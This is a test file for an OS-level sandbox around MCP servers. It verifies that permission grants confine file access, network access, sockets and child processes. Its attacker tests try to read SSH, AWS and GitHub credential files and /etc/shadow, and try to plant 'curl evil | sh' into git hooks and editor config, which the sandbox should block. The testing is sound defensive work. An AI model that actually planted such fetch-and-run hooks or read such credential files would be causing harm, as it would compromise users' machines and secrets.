// Grants enforced by the real OS sandbox (bubblewrap through @anthropic-ai/sandbox-runtime), end to end: the real
// registry, launcher, gate, broker and sealer, the real ServerSandboxes, real servers (server-filesystem and the
// sandbox fixture). Only the user's clicks are scripted. CI installs bubblewrap, socat and ripgrep: without them
// these tests fail, they are never skipped.
import * as assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AuditInput } from '../../src/core/audit/auditEvent';
import type { ServerRegistry } from '../../src/core/lifecycle/serverRegistry';
import type { Grant, UserAnswer } from '../../src/core/permissions/permission';
import { nullLogger } from '../../src/core/ports';
import type { SandboxAvailability, SandboxMode } from '../../src/core/sandbox/sandboxProfile';
import { probeSandbox } from '../../src/node/sandbox/sandboxAvailability';
import { SandboxSession } from '../../src/node/sandbox/sandboxSession';
import { ServerSandboxes } from '../../src/node/sandbox/serverSandboxes';
import { allow, deny, scriptedPermissions, type ScriptedPermissions } from '../support/scriptedPermissions';
import { FILESYSTEM, NODE, pidOf, processAlive, ROOT, running, startServers, waitForExit, waitUntil, type Harness } from './harness';

const SANDBOX_FIXTURE = join(ROOT, 'test/fixtures/sandbox-server.mjs');
const textOf = (result: unknown) => ((result as { content: { text?: string }[] }).content ?? []).map((c) => c.text ?? '').join('');
const isError = (result: unknown) => (result as { isError?: boolean }).isError === true;

describe('grants enforced by the OS sandbox (real bubblewrap)', function () {
  this.timeout(90_000);
  let base: string;
  let p: ScriptedPermissions;
  let harness: Harness | undefined;
  let sandboxes: ServerSandboxes | undefined;
  let folderRoot: string;
  /** server-filesystem narrows itself to its roots when it gets them: a test of the sandbox alone denies them. */
  let rootsAnswer: UserAnswer;

  beforeEach(() => {
    base = mkdtempSync(join(tmpdir(), 'warden-sbx-'));
    for (const dir of ['granted', 'sibling', 'outside']) mkdirSync(join(base, dir));
    writeFileSync(join(base, 'granted/a.txt'), 'inside\n');
    writeFileSync(join(base, 'sibling/secret.txt'), 'SECRET\n');
    folderRoot = mkdtempSync(join(tmpdir(), 'warden-sbx-runs-'));
    p = scriptedPermissions({ workspaceFolder: base });
    // Launches, tools and roots are another test's subject: allowed here without a question, so that every question
    // the script sees is one the sandbox raised.
    const scripted = p.prompter.ask.bind(p.prompter);
    p.prompter.ask = async (question, signal) => {
      const kind = question.request.permission.kind;
      if (kind === 'roots') return rootsAnswer;
      return kind === 'launch' || kind === 'tool' ? allow('session') : scripted(question, signal);
    };
    rootsAnswer = allow('session');
  });
  afterEach(async () => {
    await harness?.dispose();
    harness = undefined;
    sandboxes?.dispose();
    sandboxes = undefined;
    rmSync(base, { recursive: true, force: true });
    rmSync(folderRoot, { recursive: true, force: true });
  });

  async function start(
    servers: Record<string, unknown>,
    options: { mode?: SandboxMode; availability?: () => Promise<SandboxAvailability>; testHosts?: Record<string, string>; cacheRoot?: string; home?: string } = {},
  ): Promise<Harness> {
    // The registry exists only once the harness has started; a restart is asked for later.
    const ref: { registry?: ServerRegistry } = {};
    const audit = { record: (e: AuditInput | (() => AuditInput)) => p.audited.push(typeof e === 'function' ? e() : e) };
    const own = (sandboxes = new ServerSandboxes({
      gate: p.gate,
      authorizer: p.broker,
      audit,
      mode: () => options.mode ?? 'required',
      availability: options.availability ?? (() => probeSandbox(process.env, process.platform)),
      startSession: (o) => SandboxSession.start({ ...o, ...(options.testHosts && { testHosts: options.testHosts }) }),
      restart: (server, reason) => ref.registry!.restart(server, reason),
      protectedPaths: () => [],
      logger: nullLogger,
      folderRoot,
      ...(options.cacheRoot && { cacheRoot: options.cacheRoot }),
      ...(options.home && { home: options.home }),
    }));
    harness = await startServers(servers, {
      audit,
      workspaceFolder: base,
      containmentFor: (request) => own.containmentFor(request),
      onServerFailure: (request, text) => own.inspectFailure(request.serverName, request.sessionId, text),
      permissions: {
        ...p.harness,
        onSessionEnd: (server, session) => {
          p.harness.onSessionEnd(server, session);
          own.endSession(server, session);
        },
      },
    });
    ref.registry = harness.registry;
    return harness;
  }

  /** A grant as the user's earlier "Allow for Workspace" left it: sealed on this machine. */
  function workspaceGrant(server: string, kind: Grant['kind'], target: string): Grant {
    return p.sealer.seal({ server, kind, target, decision: 'allow', scope: 'workspace', grantedAt: '2026-12-03T00:00:00.000Z' });
  }

  function grantInSettings(...grants: Grant[]): void {
    p.writeSettings([...p.store.grants, ...grants]);
  }

  async function call(h: Harness, server: string, tool: string, args: Record<string, unknown>): Promise<unknown> {
    return h.registry.callTool(server, tool, args);
  }

  it('holds server-filesystem to the one folder it was granted, whatever it was told', async () => {
    // The server is told it may use all of `base` (and no roots); only the sandbox holds it to base/granted.
    rootsAnswer = deny('session');
    grantInSettings(workspaceGrant('files', 'fs.read', join(base, 'granted')));
    p.prompter.answer(deny('session'), deny('session'), deny('session'));
    const h = await start({ files: { command: NODE, args: [FILESYSTEM, base] } });
    await h.waitFor('files', running, 'running');

    assert.equal(textOf(await call(h, 'files', 'read_text_file', { path: join(base, 'granted/a.txt') })), 'inside\n');
    for (const path of [join(base, 'sibling/secret.txt'), join(base, 'granted/../sibling/secret.txt'), '/etc/shadow']) {
      const result = await call(h, 'files', 'read_text_file', { path });
      assert.ok(isError(result), `${path} must not be readable: ${textOf(result)}`);
      assert.doesNotMatch(textOf(result), /SECRET|root:/);
    }
    // Reads are never reported by the runtime: the hidden path in the server's error becomes the question.
    const asked = p.prompter.questions.map((q) => `${q.request.permission.kind} ${q.request.permission.target}`);
    assert.ok(asked.includes(`fs.read ${join(base, 'sibling/secret.txt')}`), `${asked.join('\n')}\n${h.log('files').join('\n')}`);
    const write = await call(h, 'files', 'write_file', { path: join(base, 'outside/new.txt'), content: 'x' });
    assert.ok(isError(write) || !existsSync(join(base, 'outside/new.txt')), 'a write outside the grants must not reach the disk');
    assert.ok(!existsSync(join(base, 'outside/new.txt')));
  });

  describe('what an attacker would try', () => {
    it('keeps the secrets in home hidden under a grant of the whole home, except one granted by its exact path', async () => {
      const home = join(base, 'home');
      for (const dir of ['.ssh', '.aws', '.config/gh', 'project']) mkdirSync(join(home, dir), { recursive: true });
      writeFileSync(join(home, '.ssh/id_ed25519'), 'PRIVATE KEY');
      writeFileSync(join(home, '.ssh/config'), 'Host *');
      writeFileSync(join(home, '.aws/credentials'), 'AWS SECRET');
      writeFileSync(join(home, '.config/gh/hosts.yml'), 'oauth_token: gho_x');
      writeFileSync(join(home, 'project/readme.txt'), 'PROJECT');
      grantInSettings(workspaceGrant('probe', 'fs.read', home));
      p.prompter.answer(deny('session'), deny('session'), deny('session'), deny('session'));
      const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } }, { home });
      const first = pidOf(await h.waitFor('probe', running, 'running'));
      assert.equal(textOf(await call(h, 'probe', 'read_file', { path: join(home, 'project/readme.txt') })), 'ok PROJECT');
      for (const secret of ['.ssh/id_ed25519', '.aws/credentials', '.config/gh/hosts.yml', 'project/../.ssh/id_ed25519']) {
        assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(home, secret) })), /^error ENOENT/, secret);
      }
      // The question about a secret is modal and says why.
      const question = p.prompter.questions.find((q) => q.request.permission.target === join(home, '.ssh/id_ed25519'));
      assert.ok(question?.decision.risks.some((r) => /holds secrets/.test(r)), `${JSON.stringify(question?.decision.risks)} ${p.prompter.questions.map((q) => q.request.permission.target).join(", ")}\n${h.log("probe").join("\n")}`);

      grantInSettings(workspaceGrant('probe', 'fs.read', join(home, '.ssh/id_ed25519')));
      await h.waitFor('probe', (s) => running(s) && pidOf(s) !== first, 'restarted with the key granted by its path');
      assert.equal(textOf(await call(h, 'probe', 'read_file', { path: join(home, '.ssh/id_ed25519') })), 'ok PRIVATE KEY');
      assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(home, '.ssh/config') })), /^error ENOENT/, 'only that file');
      assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(home, '.aws/credentials') })), /^error ENOENT/);
    });

    it('honours no grant a repository wrote into its settings (unsealed), nor one sealed and then edited', async () => {
      const unsealed: Grant = { server: 'probe', kind: 'fs.read', target: join(base, 'sibling'), decision: 'allow', scope: 'workspace', grantedAt: '2026-12-03T00:00:00.000Z' };
      const edited: Grant = { ...workspaceGrant('probe', 'fs.write', join(base, 'granted')), target: join(base, 'outside') };
      p.writeSettings([unsealed, edited]);
      p.prompter.answer(deny('session'), deny('session'));
      const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
      await h.waitFor('probe', running, 'running');
      assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(base, 'sibling/secret.txt') })), /^error ENOENT/);
      assert.ok(isError(await call(h, 'probe', 'write_file', { path: join(base, 'outside/planted.txt'), text: 'x' })));
      assert.ok(!existsSync(join(base, 'outside/planted.txt')));
      const status = sandboxes!.status('probe');
      assert.ok(status?.kind === 'sandboxed' && !status.profile.filesystem.allowRead.includes(join(base, 'sibling')));
    });

    it('cannot plant a git hook or editor settings in a folder it may write', async () => {
      const repo = join(base, 'outside');
      mkdirSync(join(repo, '.git/hooks'), { recursive: true });
      grantInSettings(workspaceGrant('probe', 'fs.write', repo));
      p.prompter.answer(deny('session'), deny('session'), deny('session'));
      const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
      await h.waitFor('probe', running, 'running');
      assert.ok(!isError(await call(h, 'probe', 'write_file', { path: join(repo, 'ok.txt'), text: 'fine' })));
      const planted = ['.git/hooks/pre-commit', '.vscode/tasks.json', '.mcp.json'];
      for (const path of planted) {
        const result = await call(h, 'probe', 'write_file', { path: join(repo, path), text: 'curl evil | sh' });
        assert.ok(isError(result), `${path}: ${textOf(result)}`);
        // While it runs, bubblewrap may keep an empty placeholder where a missing name is denied; never the text.
        assert.ok(!existsSync(join(repo, path)) || readFileSync(join(repo, path), 'utf8') === '', `${path} reached the disk`);
      }
      await h.registry.stop('probe');
      // The sandbox ends just after its server (the placeholders go with it).
      await waitUntil(() => planted.every((path) => !existsSync(join(repo, path))), `placeholders gone from ${repo}: ${readdirSync(repo).join(', ')}`);
      assert.deepEqual(readdirSync(join(repo, '.git/hooks')), []);
    });
  });

  it('turns a hidden read into a question; Allow restarts the server with that path readable', async () => {
    const secret = join(base, 'sibling/secret.txt');
    const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
    const firstPid = pidOf(await h.waitFor('probe', running, 'running'));
    p.prompter.answer(allow('session'));
    const hidden = await call(h, 'probe', 'read_file', { path: secret });
    assert.match(textOf(hidden), /^error ENOENT/);
    await p.prompter.asked(1);
    assert.equal(`${p.prompter.questions[0]?.request.permission.kind} ${p.prompter.questions[0]?.request.permission.target}`, `fs.read ${secret}`);
    await h.waitFor('probe', (s) => running(s) && pidOf(s) !== firstPid, 'restarted with the wider profile');
    assert.equal(textOf(await call(h, 'probe', 'read_file', { path: secret })), 'ok SECRET\n');
    // Only that file: its folder's other entries stay hidden.
    writeFileSync(join(base, 'sibling/other.txt'), 'OTHER');
    assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(base, 'sibling/other.txt') })), /^error ENOENT/);
  });

  it('asks about the folder a server cannot start without, and starts it once allowed', async () => {
    // server-filesystem checks its folder at start: hidden, it exits with the path on stderr.
    const folder = join(base, 'granted');
    p.prompter.answer(allow('session'));
    const h = await start({ files: { command: NODE, args: [FILESYSTEM, folder] } });
    await p.prompter.asked(1);
    assert.equal(`${p.prompter.questions[0]?.request.permission.kind} ${p.prompter.questions[0]?.request.permission.target}`, `fs.read ${folder}`);
    await h.waitFor('files', running, 'running with the folder readable', 60_000);
    assert.equal(textOf(await call(h, 'files', 'read_text_file', { path: join(folder, 'a.txt') })), 'inside\n');
    assert.equal(p.prompter.questions.length, 1, `asked once, though the server exited and was restarted meanwhile: ${p.prompter.questions.map((q) => `${q.request.permission.kind} ${q.request.permission.target}`).join(', ')}`);
  });

  it('finds a hidden path in what the server prints to stderr when its error says nothing', async () => {
    const secret = join(base, 'sibling/secret.txt');
    const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
    await h.waitFor('probe', running, 'running');
    p.prompter.answer(deny('session'));
    assert.equal(textOf(await call(h, 'probe', 'read_logged', { path: secret })), 'could not read');
    await p.prompter.asked(1);
    assert.equal(p.prompter.questions[0]?.request.permission.target, secret);
  });

  it('turns a blocked write into a question; Allow restarts the server with the wider profile and the retried call works', async () => {
    const target = join(base, 'outside/new.txt');
    const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
    const first = await h.waitFor('probe', running, 'running');
    const firstPid = pidOf(first);

    p.prompter.answer(allow('session'));
    const blocked = await call(h, 'probe', 'write_file', { path: target, text: 'hello' });
    assert.ok(isError(blocked), `the write must be blocked first: ${textOf(blocked)}`);
    assert.ok(!existsSync(target));

    // The runtime reports the write; the question is about the folder (the file does not exist yet).
    await p.prompter.asked(1);
    const question = p.prompter.questions[0]!;
    assert.equal(question.request.permission.kind, 'fs.write');
    assert.equal(question.request.permission.target, join(base, 'outside'));
    assert.equal(question.request.reason, `it tried to write ${target}`);

    // Allowed for the session: the server restarts with base/outside writable, on its own.
    const restarted = await h.waitFor('probe', (s) => running(s) && pidOf(s) !== firstPid, 'restarted with the wider profile');
    assert.notEqual(pidOf(restarted), firstPid);
    assert.ok(restarted.catalog.tools.some((t) => t.name === 'write_file'), 'its tools are listed again');
    // The restart took the session prepared ahead of need, and gave it the wider profile.
    assert.ok(h.log('probe').includes('debug its sandbox session was started ahead of need'), h.log('probe').join('\n'));
    const retried = await call(h, 'probe', 'write_file', { path: target, text: 'hello' });
    assert.ok(!isError(retried), textOf(retried));
    assert.equal(readFileSync(target, 'utf8'), 'hello');

    const blocks = p.audited.filter((e) => e.type === 'permission' && e.action === 'blocked');
    assert.ok(blocks.some((e) => e.type === 'permission' && e.permission === `fs.write:${target}`), JSON.stringify(blocks));
    assert.ok(p.audited.some((e) => e.type === 'lifecycle' && e.action === 'restart' && /filesystem grants changed/.test(e.detail ?? '')));
  });

  it('revoking a write grant restarts the server with the narrower profile', async () => {
    grantInSettings(workspaceGrant('probe', 'fs.write', join(base, 'outside')));
    const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
    const first = await h.waitFor('probe', running, 'running');
    assert.ok(!isError(await call(h, 'probe', 'write_file', { path: join(base, 'outside/one.txt'), text: '1' })));

    await p.broker.revoke(p.store.grants.filter((g) => g.kind === 'fs.write'));
    const restarted = await h.waitFor('probe', (s) => running(s) && pidOf(s) !== pidOf(first), 'restarted with the narrower profile');
    p.prompter.answer(deny('session'));
    const again = await call(h, 'probe', 'write_file', { path: join(base, 'outside/two.txt'), text: '2' });
    assert.ok(isError(again), textOf(again));
    assert.ok(!existsSync(join(base, 'outside/two.txt')));
    assert.ok(running(restarted));
  });

  describe('network', () => {
    let web: Server;
    let port: number;
    beforeEach(async () => {
      // Each fetch opens a new connection: one kept alive through the proxy would outlive a revoke (see README).
      web = createServer((_, res) => res.setHeader('Connection', 'close').end('hello from the loopback'));
      await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
      port = (web.address() as { port: number }).port;
    });
    afterEach(() => new Promise<void>((r) => web.close(() => r())));

    it('asks about a host nobody granted, applies the answer live, and a revoke blocks the next connection without a restart', async () => {
      const url = `http://fixture.test:${port}/`;
      // The name resolves to loopback: the runtime lets it through only if the address itself is granted too.
      grantInSettings(workspaceGrant('probe', 'net', `127.0.0.1:${port}`));
        const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } }, { testHosts: { 'fixture.test': '127.0.0.1' } });
      const pid = pidOf(await h.waitFor('probe', running, 'running'));

      p.prompter.answer(deny('once'));
      const refused = await call(h, 'probe', 'fetch_url', { url });
      assert.ok(isError(refused), textOf(refused));
      assert.equal(p.prompter.questions.at(-1)?.request.permission.target, `fixture.test:${port}`);

      p.prompter.answer(allow('session'));
      const allowed = await call(h, 'probe', 'fetch_url', { url });
      assert.equal(textOf(allowed), 'ok 200 hello from the loopback');
      const asked = p.prompter.questions.length;

      // The session grant is in the profile now: no question for the next connection.
      assert.equal(textOf(await call(h, 'probe', 'fetch_url', { url: `${url}?again` })), 'ok 200 hello from the loopback');
      assert.equal(p.prompter.questions.length, asked);

      await p.broker.revoke(p.gate.list('probe').filter((l) => l.grant.kind === 'net' && l.grant.target === `fixture.test:${port}`).map((l) => l.grant));
      p.prompter.answer(deny('once'));
      // A new connection (keep-alive off in the fixture's URL) is asked about again, and refused.
      const afterRevoke = await call(h, 'probe', 'fetch_url', { url: `${url}?after-revoke` });
      assert.ok(isError(afterRevoke), textOf(afterRevoke));
      assert.equal(p.prompter.questions.length, asked + 1);
      assert.equal(pidOf(h.server('probe')), pid, 'no restart');
    });

    it('refuses a granted name that resolves to a loopback address when the address is not granted', async () => {
      grantInSettings(workspaceGrant('probe', 'net', `fixture.test:${port}`));
      p.prompter.answer(allow('once'));
      const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } }, { testHosts: { 'fixture.test': '127.0.0.1' } });
      await h.waitFor('probe', running, 'running');
      const result = await call(h, 'probe', 'fetch_url', { url: `http://fixture.test:${port}/` });
      assert.ok(isError(result), textOf(result));
    });
  });

  it('denies Unix sockets, even in a folder it may write, unless unix:* is granted', async () => {
    grantInSettings(workspaceGrant('probe', 'fs.write', join(base, 'outside')));
    const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
    const first = await h.waitFor('probe', running, 'running');
    const denied = await call(h, 'probe', 'listen_unix', { path: join(base, 'outside/x.sock') });
    assert.ok(isError(denied), textOf(denied));
    assert.match(textOf(denied), /EPERM/);

    // Unix sockets are all or nothing on Linux: the grant restarts the server with them allowed.
    grantInSettings(workspaceGrant('probe', 'net', 'unix:*'));
    await h.waitFor('probe', (s) => running(s) && pidOf(s) !== pidOf(first), 'restarted with Unix sockets');
    const allowed = await call(h, 'probe', 'listen_unix', { path: join(base, 'outside/y.sock') });
    assert.ok(!isError(allowed), textOf(allowed));
  });

  it('ends a detached grandchild with its server', async () => {
    grantInSettings(workspaceGrant('probe', 'fs.write', join(base, 'outside')));
    const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
    await h.waitFor('probe', running, 'running');
    const pidFile = join(base, 'outside/grandchild.pid');
    assert.ok(!isError(await call(h, 'probe', 'spawn_detached', { pidFile })));
    // The pid the server saw is in its own namespace; find the host pid by the command line instead.
    const sleeper = await waitForSleeper(pidFile);
    assert.ok(processAlive(sleeper));
    await h.registry.stop('probe');
    assert.ok(await waitForExit(sleeper, 10_000), `grandchild ${sleeper} outlived its server`);
  });

  it('runs a server that npx downloads, with a package cache of its own and the registry, asking nothing', async function () {
    this.timeout(240_000);
    const { version } = JSON.parse(readFileSync(join(ROOT, 'node_modules/@modelcontextprotocol/server-everything/package.json'), 'utf8')) as { version: string };
    const cacheRoot = join(folderRoot, 'caches');
    const h = await start({ everything: { command: 'npx', args: ['-y', `@modelcontextprotocol/server-everything@${version}`, 'stdio'] } }, { cacheRoot });
    const s = await h.waitFor('everything', running, 'running from the npx download', 200_000);
    assert.ok(s.catalog.tools.some((t) => t.name === 'echo'), h.log('everything').join('\n'));
    assert.equal(p.prompter.questions.length, 0, p.prompter.questions.map((q) => `${q.request.permission.kind} ${q.request.permission.target}`).join(', '));
    // The download went into the server's own cache, not the user's.
    const [cache] = readdirSync(cacheRoot);
    assert.match(cache ?? '', /^everything-[0-9a-f]{12}$/);
    assert.ok(readdirSync(join(cacheRoot, cache!)).includes('_npx'));
    const profile = sandboxes!.status('everything');
    assert.ok(profile?.kind === 'sandboxed' && profile.profile.network.allowedDomains.includes('registry.npmjs.org:443'));
  });

  it('keeps each server out of the others’ run folders, even under a read grant that holds them all', async () => {
    // As in the demo: the runs' folders lie inside a folder a server may read (its package, a granted /tmp).
    folderRoot = mkdtempSync(join(base, 'runs-'));
    grantInSettings(workspaceGrant('a', 'fs.read', base), workspaceGrant('a', 'fs.write', join(base, 'outside')));
    const h = await start({ a: { command: NODE, args: [SANDBOX_FIXTURE] }, b: { command: NODE, args: [SANDBOX_FIXTURE] } });
    const a = await h.waitFor('a', running, 'running');
    await h.waitFor('b', running, 'running');
    // b's run folder: its own, or the spare session's it took (named spare-…), whichever it got.
    const statusOfB = sandboxes!.status('b');
    assert.ok(statusOfB?.kind === 'sandboxed' && statusOfB.privateTemp.startsWith(folderRoot), 'b runs sandboxed, its temp folder among the runs');
    writeFileSync(join(statusOfB.privateTemp, 'b-only.txt'), 'B');
    assert.match(textOf(await call(h, 'a', 'read_file', { path: join(statusOfB.privateTemp, 'b-only.txt') })), /^error ENOENT/);
    assert.ok(!(await call(h, 'a', 'read_file', { path: join(base, 'granted/a.txt') }).then(isError)));
    // b's run folder goes away; a's next run must not depend on it.
    await h.registry.stop('b');
    await h.registry.restart('a');
    await h.waitFor('a', (s) => running(s) && pidOf(s) !== pidOf(a), 'restarted');
    assert.equal(textOf(await call(h, 'a', 'read_file', { path: join(base, 'granted/a.txt') })), 'ok inside\n');
  });

  it('refuses to start in required mode where there is no sandbox, saying why and what to do', async () => {
    const h = await start(
      { probe: { command: NODE, args: [SANDBOX_FIXTURE] } },
      { mode: 'required', availability: () => probeSandbox({ ...process.env, PATH: '/nonexistent' }, 'linux') },
    );
    const failed = await h.waitFor('probe', (s) => s.state.kind === 'error', 'refused');
    const message = failed.state.kind === 'error' ? failed.state.message : '';
    assert.match(message, /bubblewrap/);
    assert.match(message, /apt install/);
    assert.match(message, /mcpWarden\.sandbox\.mode/);
  });

  it('runs without the sandbox in preferred mode where there is none, and says so', async () => {
    const h = await start(
      { probe: { command: NODE, args: [SANDBOX_FIXTURE] } },
      { mode: 'preferred', availability: () => probeSandbox({ ...process.env, PATH: '/nonexistent' }, 'linux') },
    );
    await h.waitFor('probe', running, 'running');
    const status = sandboxes!.status('probe');
    assert.equal(status?.kind, 'unsandboxed');
    assert.ok(h.log('probe').some((line) => /bubblewrap/.test(line)), h.log('probe').join('\n'));
  });
});

/** The host pid of the fixture's `sleep 600` grandchild, once it wrote its pid file. */
async function waitForSleeper(pidFile: string): Promise<number> {
  for (let i = 0; i < 200; i++) {
    if (existsSync(pidFile)) {
      for (const entry of readdirSync('/proc')) {
        if (!/^\d+$/.test(entry)) continue;
        try {
          const cmdline = readFileSync(`/proc/${entry}/cmdline`, 'utf8');
          if (cmdline === 'sleep\u0000600\u0000') return Number(entry);
        } catch {
          // gone
        }
      }
    }
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('the grandchild never started');
}

